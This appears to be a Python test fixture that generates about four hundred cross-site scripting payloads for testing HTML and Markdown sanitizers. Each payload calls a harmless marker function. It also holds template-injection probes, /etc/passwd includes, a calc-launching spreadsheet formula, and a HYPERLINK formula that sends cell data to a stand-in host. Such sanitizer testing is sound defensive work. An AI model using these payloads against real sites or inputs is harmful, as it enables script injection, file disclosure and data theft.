"""What somebody writes who wants a page to run a script, made from tables of ways to begin one: some four hundred short texts.

The ways are those that the public lists collect (the OWASP filter evasion sheet, the HTML5 security sheet, PortSwigger's list of
handlers); the texts are ours. Each calls `xq()`, which a test defines, so that a script that runs is seen to run.
"""

# Handlers that fire by themselves or by a touch, on an element that has them.
HANDLERS = {
    "body": "onload onpageshow onfocus onhashchange onscroll onmessage onbeforeprint onafterprint onresize onunhandledrejection",
    "img src=x": "onerror onload onclick onmouseover ondblclick oncontextmenu onpointerenter onpointerdown onwheel ondragstart",
    "svg": "onload onbegin onclick onfocusin onmouseenter",
    "input autofocus": "onfocus onblur oninput onchange oninvalid onselect onkeydown onkeyup onkeypress onsearch onpaste oncopy oncut",
    "video src=x": "onerror onloadstart onplay onplaying oncanplay onstalled onsuspend onwaiting onvolumechange onseeking onended",
    "audio src=x": "onerror onloadeddata onloadedmetadata ondurationchange onemptied onprogress onratechange onabort",
    "details open": "ontoggle onclick onbeforetoggle",
    "marquee": "onstart onfinish onbounce",
    "form": "onsubmit onreset onformdata",
    "div tabindex=1 style=animation-name:x": "onanimationstart onanimationend ontransitionend ontouchstart ontouchmove onauxclick",
    "select autofocus": "onfocus onfocusout onmousedown onmouseup",
    "iframe": "onload onerror",
    "object data=x": "onerror onload",
    "dialog open": "onclose oncancel",
    "xq-a": "onclick onmouseover oncontentvisibilityautostatechange",
}
# How the same attribute is written so that a filter does not see it.
SPELLINGS = (
    "<{element} {handler}=xq()>",
    '<{element} {handler}="xq()">',
    "<{element}/{handler}='xq()'/>",
    "`<{element} {handler}=xq()>`",
)
SCRIPTS = """
<script>xq()</script>
<ScRiPt>xq()</sCrIpT>
<script/x>xq()</script>
<script >xq()</script >
<script>xq()</script/x>
<script>/*`*/xq()</script>
<script src=//xq.example/x.js></script>
<script src=data:text/javascript,xq()></script>
<script type=module>xq()</script>
<script type=text/javascript>xq()//</script>
<scr<script>ipt>xq()</scr</script>ipt>
<<script>xq()//<</script>
</script><script>xq()</script>
--></script><script>xq()</script>
<svg><script>xq()</script></svg>
<svg><script href=data:,xq()></script></svg>
<svg><script xlink:href=data:,xq()></script></svg>
<math><script>xq()</script></math>
<noscript><p title="</noscript><script>xq()</script>">
<template><script>xq()</script></template>
<template shadowrootmode=open><script>xq()</script></template>
<frameset onload=xq()>
<script>xq\\u0028)</script>
<script>eval('x'+'q()')</script>
<script>setTimeout`xq\\x28\\x29`</script>
<script>import('data:text/javascript,xq()')</script>
<script>\u2028xq()</script>
<script>-->xq()</script>
<script><!--xq()</script>
<![CDATA[<script>xq()</script>]]>
<?xml version="1.0"?><script>xq()</script>
<!--><script>xq()</script>-->
<!-- --!><script>xq()</script>
<!DOCTYPE x [<!ENTITY y "<script>xq()</script>">]>
<xmp><script>xq()</script></xmp>
<plaintext><script>xq()</script>
<title><script>xq()</script></title>
</title><script>xq()</script>
</textarea><script>xq()</script>
</style><script>xq()</script>
</noscript><script>xq()</script>
</template><script>xq()</script>
</select><script>xq()</script>
</svg><script>xq()</script>
</math><script>xq()</script>
]]><script>xq()</script>
'><script>xq()</script>
"><script>xq()</script>
`><script>xq()</script>
\\"><script>xq()</script>
\\'><script>xq()</script>
{{<script>xq()</script>}}
`<div><script>xq()</script></div>`
``<p><script>xq()</script></p>``
"""
ELEMENTS = """
<iframe src=javascript:xq()></iframe>
<iframe srcdoc='<script>xq()</script>'></iframe>
<iframe srcdoc='&lt;script&gt;parent.xq()&lt;/script&gt;'></iframe>
<iframe src='data:text/html,<script>parent.xq()</script>'></iframe>
<embed src=javascript:xq()>
<embed src='data:image/svg+xml,<svg onload=xq()>'>
<object data=javascript:xq()></object>
<object data='data:text/html,<script>xq()</script>'></object>
<object><param name=x value=javascript:xq()></object>
<applet code=xq></applet>
<base href=javascript:xq()//>
<base href=//xq.example/>
<meta http-equiv=refresh content=0;url=javascript:xq()>
<meta http-equiv=refresh content='0;url=data:text/html,<script>xq()</script>'>
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta charset=utf-7>+ADw-script+AD4-xq()+ADw-/script+AD4-
<link rel=stylesheet href=//xq.example/x.css>
<link rel=import href='data:text/html,<script>xq()</script>'>
<link rel=preload as=script href=//xq.example/x.js>
<link rel=prefetch href=//xq.example/>
<style>@import'//xq.example/x.css'</style>
<style>*{background:url(//xq.example/x)}</style>
<style>body{display:none}</style>
<p style=background:url(//xq.example/x)>
<p style=behavior:url(x.htc)>
<p style='width:expression(xq())'>
<p style=-moz-binding:url(x#y)>
<img src=javascript:xq()>
<img dynsrc=javascript:xq()>
<img lowsrc=javascript:xq()>
<img srcset=//xq.example/x>
<img src=//xq.example/pixel>
<picture><source srcset=//xq.example/x><img></picture>
<input type=image src=//xq.example/x>
<input type=image src=x formaction=javascript:xq()>
<video poster=javascript:xq()>
<video><source onerror=xq()></video>
<audio src=//xq.example/x autoplay>
<track src=//xq.example/x>
<body background=//xq.example/x>
<table background=javascript:xq()>
<td background=javascript:xq()>
<bgsound src=javascript:xq()>
<layer src=//xq.example/x></layer>
<isindex action=javascript:xq() type=image>
<form action=javascript:xq()><button>x</button></form>
<form action=//xq.example/><input type=submit></form>
<form><button formaction=javascript:xq()>x</button></form>
<button form=x formaction=javascript:xq()>x</button>
<a href=javascript:xq()>x</a>
<a href=JaVaScRiPt:xq()>x</a>
<a href='java&Tab;script:xq()'>x</a>
<a href='java&NewLine;script:xq()'>x</a>
<a href='&#106;avascript:xq()'>x</a>
<a href='&#x6A;avascript&colon;xq()'>x</a>
<a href='\x01javascript:xq()'>x</a>
<a href=' javascript:xq()'>x</a>
<a href=vbscript:xq()>x</a>
<a href=livescript:xq()>x</a>
<a href='data:text/html,<script>xq()</script>'>x</a>
<a href=blob:xq>x</a>
<a href=x ping=//xq.example/>x</a>
<a href=# autofocus onfocus=xq()>x</a>
<area href=javascript:xq()>
<map><area shape=default href=javascript:xq()></map>
<svg><a xlink:href=javascript:xq()><text y=9>x</text></a></svg>
<svg><animate attributeName=href values=javascript:xq() /></svg>
<svg><animate onbegin=xq() attributeName=x dur=1s>
<svg><set attributeName=onload to=xq()>
<svg><set attributeName=onmouseover to=xq()>
<svg><use href='data:image/svg+xml,<svg id=x onload=xq()>#x'>
<svg><foreignObject><iframe onload=xq()></foreignObject></svg>
<svg><image href=//xq.example/x>
<svg><style><img src=x onerror=xq()></style></svg>
<svg><title><img src=x onerror=xq()></title></svg>
<svg><desc><img src=x onerror=xq()></desc></svg>
<svg></p><style><a id="</style><img src=x onerror=xq()>">
<math href=javascript:xq()>x</math>
<math><maction actiontype=statusline xlink:href=javascript:xq()>x</maction></math>
<math><mtext><table><mglyph><style><img src=x onerror=xq()>
<math><annotation-xml encoding=text/html><img src=x onerror=xq()>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=xq()>
<noscript><img title="</noscript><img src=x onerror=xq()>">
<noembed><img title="</noembed><img src=x onerror=xq()>">
<noframes><img title="</noframes><img src=x onerror=xq()>">
<textarea><img title="</textarea><img src=x onerror=xq()>">
<select><option><img src=x onerror=xq()></select>
<table><tr><td><table><img src=x onerror=xq()>
<keygen autofocus onfocus=xq()>
<command onmouseover=xq()>
<menuitem onclick=xq()>
<portal src=javascript:xq()>
<fencedframe src=//xq.example/>
<slot onslotchange=xq()>
<custom-element onclick=xq()>
<div popover onbeforetoggle=xq()>
<button popovertarget=x>x</button><p popover id=x onbeforetoggle=xq()>
<input type=hidden oncontentvisibilityautostatechange=xq() style=content-visibility:auto>
<dialog open><form method=dialog><button formaction=javascript:xq()>
<img name=querySelector><img name=getElementById>
<form id=rex-base><input name=dataset></form>
<a id=location href=//xq.example/>x</a>
<p id=rex-base data-json='{}'>
<p class=rex-search-view data-slow>
"""
MARKDOWN = """
[x](javascript:xq())
[x](JAVASCRIPT:xq())
[x](java\tscript:xq())
[x](<javascript:xq()>)
[x](javascript&colon;xq())
[x](&#106;avascript:xq())
[x](\\javascript:xq())
[x]( javascript:xq() )
[x](vbscript:xq())
[x](data:text/html;base64,PHNjcmlwdD54cSgpPC9zY3JpcHQ+)
[x](//xq.example)
[x](https://xq.example "x\\" onmouseover=xq() \\"")
[x](https://xq.example 'x' onmouseover=xq())
[x](https://xq.example"onmouseover="xq())
![x](javascript:xq())
![x](https://xq.example/pixel)
![x"onerror="xq()](x)
![x](x"onerror="xq())
![x](x 'onerror=xq()')
[x]: javascript:xq()
[x][y] [y]: javascript:xq()
[![x](x)](javascript:xq())
[a](b)[c](javascript:xq())
[`x`](javascript:xq())
[<img src=x onerror=xq()>](x)
<javascript:xq()>
<https://xq.example/<script>xq()</script>>
<x@xq.example"onclick="xq()>
https://xq.example/"onmouseover="xq()
www.xq.example/<script>xq()</script>
x {: onclick=xq() }
x {: .rex-search-view #rex-base onclick="xq()" }
{.xq onclick=xq()}
[x](#){: onclick=xq() }
![x](x){ onerror=xq() }
[TOC]
[[x|javascript:xq()]]
*[x]: <script>xq()</script>
[^x]: <script>xq()</script>
x[^<script>xq()</script>]
$$<script>xq()</script>$$
\\(<script>xq()</script>\\)
~~<script>xq()</script>~~
==<img src=x onerror=xq()>==
^^<img src=x onerror=xq()>^^
++<img src=x onerror=xq()>++
| <script>xq()</script> | x |
- <script>xq()</script>
> <script>xq()</script>
# <script>xq()</script>
```<script>xq()</script>```
``` "><script>xq()</script>
~~~ html onclick=xq()
!!! note "<script>xq()</script>"
??? "<img src=x onerror=xq()>"
=== "<script>xq()</script>"
:::xq onclick=xq()
:icon"onerror=xq():
@[x](javascript:xq())
--8<-- "/etc/passwd"
{% include "/etc/passwd" %}
{{ config.__class__ }}
{{ ''.__class__.__mro__ }}
{{ 7 * 7 }}${7*7}<%= 7*7 %>#{7*7}
{{constructor.constructor('xq()')()}}
{% raw %}<script>xq()</script>{% endraw %}
{# xq #}{{"<script>xq()</script>"|safe}}
"""
QUOTES = """
" onmouseover="xq()
' onmouseover='xq()
` onmouseover=`xq()
" autofocus onfocus="xq()" x="
' autofocus onfocus='xq()' x='
" onfocus=xq() autofocus tabindex=1 "
x onmouseover=xq()
" style="position:fixed;inset:0" onclick="xq()
" href="javascript:xq()
" formaction="javascript:xq()
" srcdoc="<script>parent.xq()</script>
"/><svg onload=xq()>
'/><svg onload=xq()>
\\" onmouseover=\\"xq()
&quot; onmouseover=&quot;xq()
&#34; onmouseover=&#34;xq()
&#x22;&#x20;onmouseover&#x3d;xq()
&lt;script&gt;xq()&lt;/script&gt;
&amp;lt;script&amp;gt;xq()&amp;lt;/script&amp;gt;
&#60script&#62xq()&#60/script&#62
&#x3c;script&#x3e;xq()&#x3c;/script&#x3e;
&LT;script&GT;xq()&LT;/script&GT;
\\u003cscript\\u003exq()\\u003c/script\\u003e
\\x3cscript\\x3exq()\\x3c/script\\x3e
%3Cscript%3Exq()%3C/script%3E
%253Cscript%253Exq()%253C/script%253E
\uff1cscript\uff1exq()\uff1c/script\uff1e
\u2039script\u203axq()\u2039/script\u203a
';xq();//
";xq();//
`;xq();//
\\';xq();//
'-xq()-'
"-xq()-"
${xq()}
`${xq()}`
}xq();{
*/xq();/*
//xq()
xq()//
</p onclick=xq()>
<//onclick=xq()>
<?php xq() ?>
<% xq() %>
<x:script xmlns:x='http://www.w3.org/1999/xhtml'>xq()</x:script>
<img src=x:x onerror=xq() //
<img src=x onerror=&#120;&#113;&#40;&#41;>
<img src=`x`onerror=xq()>
<img/src=x/onerror=xq()>
<img\x0csrc=x\x0conerror=xq()>
<img src=x onerror\x09=\x09xq()>
<IMG SRC=x ONERROR=xq()>
<\u0130mg src=x onerror=xq()>
<\u017fcript>xq()</\u017fcript>
=xq()
=HYPERLINK("//xq.example/"&A1,"x")
+xq()
-xq()
@xq()
=cmd|'/c calc'!A0
;=1+1;@SUM(1)
%0A=1+1
}, title={xq}, x={
\\input{/etc/passwd}
@article{xq,}
"}]},"xq":{"x":["
__proto__
constructor
xq\u202e)(qx
\u200bxq()\u200b
\ufeff<script>xq()</script>
"""


def _handled() -> list[str]:
    return [
        spelling.format(element=element, handler=handler)
        for place, (element, handlers) in enumerate(HANDLERS.items())
        for turn, handler in enumerate(handlers.split())
        for spelling in (SPELLINGS[(place + turn) % 4], SPELLINGS[(place + turn + 2) % 4])
    ]


PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys([*_handled(), *(line for text in (SCRIPTS, ELEMENTS, MARKDOWN, QUOTES) for line in text.split("\n") if line.strip())])
)
